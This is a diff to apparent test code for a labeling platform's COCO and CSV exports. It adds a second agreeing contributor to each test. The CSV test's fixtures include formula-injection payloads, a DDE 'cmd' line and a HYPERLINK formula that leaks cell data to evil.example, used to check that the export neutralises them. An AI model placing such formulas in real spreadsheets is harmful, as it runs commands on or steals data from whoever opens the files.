@@ -54,18 +54,20 @@ def test_coco_export_for_boxes(ctx, tmp_path, config):
     from tests.labeling.conftest import make_media_pack
 
     config(QUALITY_CONFIDENCE_THRESHOLD=0.5)
-    pack, report = make_media_pack(tmp_path, "bounding_boxes", labels=("cell", "nucleus"))
+    # Two members who drew the same boxes: one drawing alone is never verified.
+    pack, report = make_media_pack(tmp_path, "bounding_boxes", labels=("cell", "nucleus"), labels_per_item=2, max_labels_per_item=2)
     assert not report.problems
-    member = make_user()
+    member, second = make_user(), make_user()
     item = items_of(pack.id)[0]
     boxes = [{"x": 1, "y": 2, "w": 10, "h": 8, "label": "nucleus"}, {"x": 20, "y": 20, "w": 5, "h": 5, "label": "cell"}]
-    lease = leases.lease_item(member, item.id, NOW)
-    submissions.submit_answer(member, lease.id, {"boxes": boxes}, now=NOW)
+    for who in (member, second):
+        lease = leases.lease_item(who, item.id, NOW)
+        submissions.submit_answer(who, lease.id, {"boxes": boxes}, now=NOW)
     coco = json.loads("".join(exports.export_coco(pack.id)))
     assert [c["name"] for c in coco["categories"]] == ["cell", "nucleus"]
     (image,) = coco["images"]
     assert image["id"] == item.id and image["width"] == 64 and image["height"] == 48
-    assert image["sapien"]["contributor_ids"] == [member]
+    assert image["sapien"]["contributor_ids"] == sorted([member, second])
     by_category = {a["category_id"]: a for a in coco["annotations"]}
     assert by_category[2]["bbox"] == [1, 2, 10, 8] and by_category[2]["area"] == 80
     assert by_category[1]["bbox"] == [20, 20, 5, 5] and all(a["image_id"] == item.id for a in coco["annotations"])
@@ -79,10 +81,11 @@ def test_csv_export_keeps_formulas_as_text(ctx, tmp_path, config):
     external_ids = ["@SUM(A1:A9)", "=cmd|' /C calc'!A0", "-2+3", "+1", "plain"]
     texts = ['=HYPERLINK("http://evil.example/?leak="&A1, "Click me")', "@SUM(1+1)", "-1+1", "+cmd", "Fine."]
     rows = [{"external_id": external_id, "text": f"Clean item {n}."} for n, external_id in enumerate(external_ids)]
-    pack = make_pack(tmp_path, rows=rows, task_type="text_cleaning", labels_per_item=1, max_labels_per_item=1)
-    author = make_user()
+    pack = make_pack(tmp_path, rows=rows, task_type="text_cleaning", labels_per_item=2, max_labels_per_item=2)
+    author, second = make_user(), make_user()  # two who agree: one answer alone is never verified
     for item, text in zip(items_of(pack.id), texts, strict=True):
         answer(author, item.id, {"text": text})
+        answer(second, item.id, {"text": text})
     exported = list(csv.DictReader(io.StringIO("".join(exports.export_csv(pack.id)))))
     assert [row["external_id"] for row in exported] == ["'@SUM(A1:A9)", "'=cmd|' /C calc'!A0", "'-2+3", "'+1", "plain"]
     assert [row["answer"] for row in exported] == ["'" + text for text in texts[:4]] + ["Fine."]
